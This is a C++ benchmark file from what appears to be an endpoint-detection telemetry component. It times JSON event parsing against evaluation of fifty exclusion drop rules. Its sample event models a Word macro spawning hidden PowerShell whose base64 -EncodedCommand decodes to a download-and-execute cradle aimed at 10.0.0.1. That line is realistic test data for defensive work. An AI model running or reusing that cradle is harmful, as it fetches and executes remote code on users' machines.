// What filtering costs per event, next to what parsing the event costs:
// the drop test with 50 typical rules should stay below the parse.
#include <string>
#include <vector>

#include <benchmark/benchmark.h>
#include <boost/json/parse.hpp>

#include "component/sendara/base/detail/common/utf_convert.h"
#include "component/sendara/edr_telemetry/source/client/edr_telemetry_client_settings_provider.h"
#include "component/sendara/edr_telemetry/source/client/exclusion_rules_converter.h"
#include "component/sendara/edr_telemetry/source/client/filtration/operator_type.h"
#include "component/sendara/edr_telemetry/source/client/telemetry/telemetry_filter.h"

namespace {

using namespace sendara::edr_telemetry;

// A process-creation event of about 1.5 KB, shaped like the host's.
const std::string kEvent = R"({
  "eventType": "ProcessCreate", "throttlingId": 1207, "timestamp": 1796561123456,
  "agentId": "5f0c3c1e-9a7b-4f2e-8d61-0b9f7c2a4e11", "hostName": "WS-FINANCE-0231",
  "process": {
    "pid": 7412, "name": "powershell.exe",
    "path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "commandLine": "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgAxAC8AYQAnACkA",
    "integrityLevel": "High", "sessionId": 1, "startTime": 1796561123001,
    "hashes": {"sha256": "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c", "md5": "7353f60b1739074eb17c5f4dddefe239"},
    "signature": {"signed": true, "signer": "Microsoft Windows", "valid": true},
    "user": {"name": "jdoe", "domain": "CORP", "sid": "S-1-5-21-3623811015-3361044348-30300820-1013"}
  },
  "parent": {
    "pid": 5120, "name": "WINWORD.EXE",
    "path": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "commandLine": "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\jdoe\\Downloads\\invoice_8812.docm\""
  },
  "network": {"remoteAddress": "10.0.0.1", "remotePort": 80, "protocol": 6},
  "flags": 1048581, "severity": 3,
  "ioas": [{"guid": "3f1e0a52-7d2b-4c8e-9b61-5a0e2c7d9f10", "version": 4, "markable": true},
           {"guid": "a9c4e2d1-0b3f-4e6a-8c5d-7f2b1e9a3c44", "version": 2, "markable": false}]
})";

// Fifty rules of the kinds administrators write, none of which matches the
// event above: the drop test evaluates every one of them.
std::string FiftyRules() {
  const std::vector<std::string> expressions = {
      R"({"operator": "==", "operands": ["process.name", "svchost.exe"]})",
      R"({"operator": "iequal", "operands": ["process.name", "MsMpEng.exe"]})",
      R"({"operator": "in", "operands": ["eventType", "FileCreate", "FileDelete", "RegistrySet"]})",
      R"({"operator": "like", "operands": ["process.path", "C:\\Program Files\\Backup*\\*.exe"]})",
      R"({"operator": "contains", "operands": ["process.commandLine", "--update-check"]})",
      R"({"operator": "and", "operands": [
           {"operator": "==", "operands": ["parent.name", "services.exe"]},
           {"operator": "like", "operands": ["process.path", "*\\System32\\svchost.exe"]}]})",
      R"({"operator": "or", "operands": [
           {"operator": "==", "operands": ["process.user.name", "SYSTEM"]},
           {"operator": "in like", "operands": ["hostName", "SRV-*", "DC-*"]}]})",
      R"({"operator": "and", "operands": [
           {"operator": "==", "operands": ["network.remotePort", 443]},
           {"operator": "not", "operands": [{"operator": "exists", "operands": ["process.signature"]}]}]})",
      R"({"operator": "and", "operands": [
           {"operator": ">=", "operands": ["severity", 5]},
           {"operator": "bit and", "operands": ["flags", 64]}]})",
      R"({"operator": "or", "operands": [
           {"operator": "contains", "operands": ["parent.commandLine", "\\AppData\\Local\\Temp\\"]},
           {"operator": "and", "operands": [
              {"operator": "iequal", "operands": ["parent.name", "explorer.exe"]},
              {"operator": "like", "operands": ["process.name", "update*.exe"]}]}]})",
  };
  std::string document = R"({"rules": [)";
  for (int i = 0; i < 50; ++i) {
    if (i) document += ",";
    document += R"({"enable": true, "name": "rule )" + std::to_string(i) +
                R"(", "action": {"actionType": "dropEvent"}, "filterExpression": )" +
                expressions[i % expressions.size()] + "}";
  }
  return document + "]}";
}

void BM_ParseEvent(benchmark::State& state) {
  for (auto _ : state) {
    benchmark::DoNotOptimize(boost::json::parse(kEvent));
  }
  state.SetItemsProcessed(state.iterations());
  state.SetBytesProcessed(state.iterations() * static_cast<std::int64_t>(kEvent.size()));
}
BENCHMARK(BM_ParseEvent);

void BM_DropTest50Rules(benchmark::State& state) {
  EdrTelemetryClientSettings settings;
  settings.endpoints.push_back({EdrTelemetryProtocol::TCP, "127.0.0.1:514"});
  ConvertToExclusionRulesFromString(nullptr, sendara::base::ToUtf16(FiftyRules()), settings.excludeRules,
                                    nullptr);
  if (settings.excludeRules.dropRules.size() != 50) {
    state.SkipWithError("the rules did not build");
    return;
  }
  auto provider = std::make_shared<EdrTelemetryClientSettingsProvider>(nullptr, settings);
  const TelemetryFilter filter(nullptr, provider);
  const boost::json::value event = boost::json::parse(kEvent);
  for (auto _ : state) {
    benchmark::DoNotOptimize(filter.IsDropFiltered(event));
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_DropTest50Rules);

void BM_BuildRules50(benchmark::State& state) {
  const std::u16string document = sendara::base::ToUtf16(FiftyRules());
  for (auto _ : state) {
    ExclusionRules rules;
    ConvertToExclusionRulesFromString(nullptr, document, rules, nullptr);
    benchmark::DoNotOptimize(rules);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_BuildRules50);

void BM_ParseOperator(benchmark::State& state) {
  const std::vector<std::string> names = {"and", "==", "In", "not in like", "contains", "NOT  IN"};
  for (auto _ : state) {
    for (const auto& name : names) benchmark::DoNotOptimize(filtration::ParseOperator(name));
  }
  state.SetItemsProcessed(state.iterations() * static_cast<std::int64_t>(names.size()));
}
BENCHMARK(BM_ParseOperator);

}  // namespace
